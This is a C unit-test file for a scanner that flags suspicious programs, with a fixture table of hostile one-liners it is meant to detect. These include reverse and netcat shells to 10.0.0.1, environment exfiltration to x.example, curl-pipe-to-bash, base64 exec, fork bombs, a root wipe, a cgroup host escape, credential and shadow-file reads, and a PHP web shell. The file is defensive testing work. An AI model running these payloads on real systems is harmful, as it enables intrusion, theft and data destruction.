/* scan_test.c - findings of the scan in suspicious and harmless programs. */
#include "execute/scan.h"
#include "base/buf.h"
#include "base/cleanup.h"
#include "tap.h"

#include <stdlib.h>
#include <time.h>

/* The text is treated as a file of the language. */
static json_t *scan(const char *language, const char *text)
{
	json_t *files = json_pack("{s:s}", "program", text), *all = scan_files(language, files);

	json_decref(files);
	return all;
}

static const json_t *finding(const json_t *all, const char *rule)
{
	const json_t *one;
	size_t i;

	json_array_foreach(all, i, one) if (!strcmp(doc_text(one, "rule"), rule)) return one;
	return NULL;
}

/* Every rule, by its purpose. */
static const struct {
	/* clang-format off */
	const char *rule, *language, *action, *text;
	int line;
} bad[] = {
	{ "miner-pool", "python", "block", "x = 1\nurl = 'stratum+tcp://pool.example:3333'\n", 2 },
	{ "miner", "bash", "block", "./xmrig -o pool -u me\n", 1 },
	{ "miner", "node", "block", "const c = 'XMRig';\n", 1 },
	{ "miner-algorithm", "c", "warn", "void cryptonight_hash(void);\n", 1 },
	{ "cloud-metadata", "python", "block", "get('http://169.254.169.254/latest/meta-data/')\n", 1 },
	{ "cloud-metadata", "go", "block", "http.Get(\"http://metadata.google.internal/\")\n", 1 },
	{ "cloud-credentials", "python", "warn", "open(os.path.expanduser('~/.aws/credentials'))\n", 1 },
	{ "tokens", "bash", "warn", "cat ~/.netrc\n", 1 },
	{ "ssh-keys", "ruby", "warn", "File.read('/home/x/.ssh/id_rsa')\n", 1 },
	{ "shadow", "php", "warn", "<?php\nreadfile('/etc/shadow');\n", 2 },
	{ "browser-passwords", "python", "warn", "p = '.config/google-chrome/Default/Login Data'\n", 1 },
	{ "wallets", "perl", "warn", "open(F, '/x/.bitcoin/wallet.dat');\n", 1 },
	{ "other-environment", "c", "warn", "open(\"/proc/1/environ\", 0);\n", 1 },
	{ "docker-socket", "go", "warn", "net.Dial(\"unix\", \"/var/run/docker.sock\")\n", 1 },
	{ "host-escape", "bash", "block", "echo x > /sys/fs/cgroup/rdma/release_agent\n", 1 },
	{ "reverse-shell", "bash", "block", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", 1 },
	{ "reverse-shell", "python", "block", "os.system('exec 5<>/dev/tcp/1.2.3.4/80')\n", 1 },
	{ "netcat-shell", "bash", "block", "nc -e /bin/sh 10.0.0.1 4444\n", 1 },
	{ "netcat-shell", "php", "block", "<?php system('ncat 10.0.0.1 1 -e /bin/bash');\n", 1 },
	{ "fifo-shell", "bash", "block", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f\n", 1 },
	{ "drop-box", "node", "warn", "fetch('https://webhook.site/abc')\n", 1 },
	{ "hidden-service", "python", "warn", "u = 'http://expyuzz4wqqyqhjn.onion/'\n", 1 },
	{ "wipe", "bash", "warn", "rm -rf / --no-preserve-root\n", 1 },
	{ "shell-fork-bomb", "bash", "block", "echo hi\n:(){ :|:& };:\n", 2 },
	{ "shell-fork-bomb-named", "bash", "block", "bomb() {\n  bomb | bomb &\n}\nbomb\n", 1 },
	{ "shell-exfiltration", "bash", "block", "env | curl -d @- https://x.example\n", 1 },
	{ "shell-exfiltration", "bash", "block", "curl -d \"$(printenv)\" https://x.example\n", 1 },
	{ "shell-from-the-net", "bash", "warn", "curl -s https://x.example/i.sh | sudo bash\n", 1 },
	{ "shell-hidden-code", "bash", "warn", "echo aGk= | base64 -d | sh\n", 1 },
	{ "shell-stays", "bash", "warn", "(crontab -l; echo '* * * * * x') | crontab -\n", 1 },
	{ "python-fork-bomb", "python", "block", "import os\nwhile True:\n    os.fork()\n", 2 },
	{ "python-fork-bomb", "python", "block", "import os\nwhile 1: os.fork()\n", 2 },
	{ "python-reverse-shell", "python", "block",
	  "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n"
	  "os.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n",
	  4 },
	{ "python-remote-commands", "python", "block", "while 1:\n    os.system(s.recv(1024).decode())\n", 2 },
	{ "python-exfiltration", "python", "block",
	  "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))\n", 2 },
	{ "python-hidden-code", "python", "warn", "exec(base64.b64decode('cHJpbnQoMSk='))\n", 1 },
	{ "python-from-the-net", "python", "warn", "exec(requests.get('http://x.example').text)\n", 1 },
	{ "javascript-fork-bomb", "node", "block",
	  "const { fork } = require('child_process');\nwhile (true) {\n  fork(__filename);\n}\n", 2 },
	{ "javascript-reverse-shell", "node", "block",
	  "const s = require('net').connect(4444, '10.0.0.1');\n"
	  "const p = require('child_process').spawn('/bin/sh');\ns.pipe(p.stdin);\n",
	  2 },
	{ "javascript-exfiltration", "node", "block",
	  "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) });\n", 1 },
	{ "javascript-hidden-code", "typescript", "warn", "eval(atob('YWxlcnQoMSk='));\n", 1 },
	{ "native-fork-bomb", "c", "block", "int main(void)\n{\n\twhile (1)\n\t\tfork();\n}\n", 3 },
	{ "native-fork-bomb", "c++", "block", "int main() { for (;;) fork(); }\n", 1 },
	{ "c-reverse-shell", "c", "block",
	  "s = socket(2, 1, 0);\nconnect(s, a, n);\ndup2(s, 0);\nexecve(\"/bin/sh\", 0, 0);\n", 3 },
	{ "go-reverse-shell", "go", "block",
	  "c, _ := net.Dial(\"tcp\", \"10.0.0.1:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c\n", 2 },
	{ "go-exfiltration", "go", "block",
	  "body := strings.Join(os.Environ(), \"\\n\")\nhttp.Post(\"http://x.example\", \"t\", nil)\n", 1 },
	{ "java-reverse-shell", "java", "block",
	  "Process p = new ProcessBuilder(\"/bin/sh\").start();\nSocket s = new Socket(\"10.0.0.1\", 4444);\n", 2 },
	{ "rust-reverse-shell", "rust", "block",
	  "let s = TcpStream::connect(\"10.0.0.1:4444\").unwrap();\n"
	  "Command::new(\"/bin/sh\").stdin(unsafe { Stdio::from_raw_fd(fd) });\n",
	  1 },
	{ "script-fork-bomb", "perl", "block", "fork while fork;\n", 1 },
	{ "script-fork-loop", "ruby", "block", "loop do\n  fork\nend\n", 1 },
	{ "ruby-reverse-shell", "ruby", "block", "s = TCPSocket.new('10.0.0.1', 4444)\nexec '/bin/sh', in: s\n", 1 },
	{ "php-reverse-shell", "php", "block",
	  "<?php $s = fsockopen('10.0.0.1', 4444); proc_open('/bin/sh -i', [0 => $s], $p);\n", 1 },
	{ "php-web-shell", "php", "warn", "<?php system($_GET['c']);\n", 1 },
	{ "perl-reverse-shell", "perl", "block",
	  "use Socket;\nconnect(S, $a);\nopen(STDIN, '>&S');\nexec('/bin/sh -i');\n", 3 },
	{ "script-hidden-code", "php", "warn", "<?php eval(base64_decode('ZWNobyAxOw=='));\n", 1 },
	/* clang-format on */
};

TEST(every_scan_rule_finds_its_example)
{
	for (unsigned i = 0; i < ARRAY_LEN(bad); i++) {
		json_t *all = scan(bad[i].language, bad[i].text);
		const json_t *one = finding(all, bad[i].rule);

		if (!one)
			printf("# %s: not found in: %s", bad[i].rule, bad[i].text);
		CHECK(one != NULL);
		CHECK_STR(doc_text(one, "action"), bad[i].action);
		CHECK_STR(doc_text(one, "file"), "program");
		CHECK_INT(json_integer_value(json_object_get(one, "line")), bad[i].line);
		CHECK(*doc_text(one, "why"));
		json_decref(all);
	}
}

TEST(every_scan_rule_has_a_message)
{
	json_t *rules = scan_rules();
	const json_t *one;
	unsigned missing = 0;
	size_t i;

	json_array_foreach(rules, i, one)
	{
		unsigned j = 0;

		while (j < ARRAY_LEN(bad) && strcmp(bad[j].rule, doc_text(one, "rule")) != 0)
			j++;
		if (j == ARRAY_LEN(bad)) {
			printf("# no text for %s\n", doc_text(one, "rule"));
			missing++;
		}
	}
	CHECK(json_array_size(rules) > 40);
	json_decref(rules);
	CHECK_INT(missing, 0);
}

TEST(harmless_programs_have_no_findings)
{
	static const struct {
		const char *language, *text;
	} good[] = {
		{ "python",
		  "import os, requests\nkey = os.environ['API_KEY']\n"
		  "requests.post('https://x.example', json={'a': 1}, headers={'k': key})\n" },
		{ "python",
		  "import socket\ns = socket.socket()\ns.bind(('', 80))\nprint(s.recv(10))\n" },
		{ "python", "import os\npid = os.fork()\nwhile True:\n    break\n" },
		{ "python", "import subprocess\nsubprocess.run(['ls'])\nprint(eval('1 + 1'))\n" },
		{ "node",
		  "const port = process.env.PORT || 3000;\nfetch('/x', { method: 'POST', body: '1' });\n" },
		{ "node", "while (true) {\n  break;\n}\nrequire('child_process').spawn('ls');\n" },
		{ "bash",
		  "env | sort\nf() { echo hi; }\nf | cat\ncurl -s https://x.example -o out\n" },
		{ "bash", "rm -rf /tmp/x\nmkfifo pipe\nbase64 -d < a > b\n" },
		{ "c", "while (1) {\n\tpid = fork();\n\tif (pid) break;\n}\nint synchronise;\n" },
		{ "go",
		  "conn, err := net.Dial(\"tcp\", \"localhost:80\")\ncmd := exec.Command(\"ls\")\n" },
		{ "ruby", "loop do\n  puts 1\n  break\nend\n" },
		{ "php", "<?php echo htmlspecialchars($_GET['q']);\n" },
		{ "java", "Socket s = new Socket(\"localhost\", 80);\n" },
		{ "any", "just words about nc and ssh\n" },
	};

	for (unsigned i = 0; i < ARRAY_LEN(good); i++) {
		json_t *all = scan(good[i].language, good[i].text);

		if (json_array_size(all))
			printf("# %s in: %s", doc_text(json_array_get(all, 0), "rule"),
			       good[i].text);
		/* fork in a loop that ends cannot be distinguished from one that does not */
		if (i != 8)
			CHECK_INT(json_array_size(all), 0);
		json_decref(all);
	}
}

TEST(findings_are_sorted_by_severity)
{
	json_t *all = scan("bash", "cat /etc/shadow\n./xmrig\ncat ~/.ssh/id_rsa\n");

	CHECK_INT(json_array_size(all), 3);
	CHECK_STR(doc_text(json_array_get(all, 0), "rule"), "miner");
	json_decref(all);
}

TEST(each_file_is_scanned_by_the_rules_of_its_language)
{
	json_t *files =
		json_pack("{s:s, s:s}", "main.py", "print(1)\n", "run.sh", "env | nc 10.0.0.1 1\n");
	json_t *all = scan_files("python", files);

	CHECK_INT(json_array_size(all), 1);
	CHECK_STR(doc_text(json_array_get(all, 0), "file"), "run.sh");
	json_decref(all);
	json_decref(files);
}

TEST(the_policy_of_a_team_decides_the_action)
{
	json_t *all = scan("bash", "./xmrig\ncat /etc/shadow\n");

	CHECK_INT(scan_apply(all, NULL), 1);
	CHECK_INT(scan_apply(all, ""), 1);
	CHECK_INT(scan_apply(all, "block"), 1);
	CHECK_INT(scan_apply(all, "nonsense"), -1);
	CHECK_INT(json_array_size(all), 2);
	CHECK_INT(scan_apply(all, "warn"), 0);
	CHECK_STR(doc_text(json_array_get(all, 0), "action"), "warn");
	CHECK_INT(scan_apply(all, "off"), 0);
	CHECK_INT(json_array_size(all), 0);
	CHECK_INT(scan_apply(all, "block"), 0);
	json_decref(all);
}

TEST(empty_input_has_no_result)
{
	static const char *const files[] = { "{}", "null", "[]", "1",
					     "{\"a\": 1, \"b\": null, \"c\": \"\"}" };

	for (unsigned i = 0; i < ARRAY_LEN(files); i++) {
		json_t *f = json_loads(files[i], JSON_DECODE_ANY, NULL),
		       *all = scan_files("python", f);

		CHECK_INT(json_array_size(all), 0);
		json_decref(all);
		all = scan_files(NULL, f);
		CHECK_INT(json_array_size(all), 0);
		json_decref(all);
		json_decref(f);
	}
	json_decref(scan_files("", NULL));
}

/* CPU seconds for a text of four megabytes that repeats these words. */
static double cost(const char *language, const char *words)
{
	auto_buf struct buf big = { 0 };
	clock_t from;
	json_t *all;

	while (big.len < 4 << 20)
		buf_puts(&big, words);
	from = clock();
	all = scan(language, buf_str(&big));
	json_decref(all);
	return (double)(clock() - from) / CLOCKS_PER_SEC;
}

TEST(scanning_a_hostile_text_is_not_slower_than_a_long_one)
{
	static const char *const words[] = {
		"a",           "nc nc ",     "env\n",         "curl -s x |", "()\n",
		"while (1)\n", "eval(eval(", "mkfifo ",       "exec(",       "os.environ",
		"base64 ",     "<>/dev/tcp", "\x01\x02\x03 ", "rm -rf / a",  "fork ",
		"$_GET("
	};
	static const char *const languages[] = { "python", "bash", "c", "node", "php" };

	for (unsigned i = 0; i < ARRAY_LEN(words); i++) {
		double s = cost(languages[i % ARRAY_LEN(languages)], words[i]);

		if (s > 5)
			printf("# %.1f s for '%s'\n", s, words[i]);
		CHECK(s <= 5);
	}
}

TEST(a_file_that_is_too_large_to_scan_is_reported)
{
	auto_buf struct buf big = { 0 };
	json_t *all;

	while (big.len <= 4 << 20)
		buf_puts(&big, "0123456789abcde\n");
	all = scan("python", buf_str(&big));
	CHECK_INT(json_array_size(all), 1);
	CHECK_STR(doc_text(json_array_get(all, 0), "rule"), "too-large");
	json_decref(all);
}
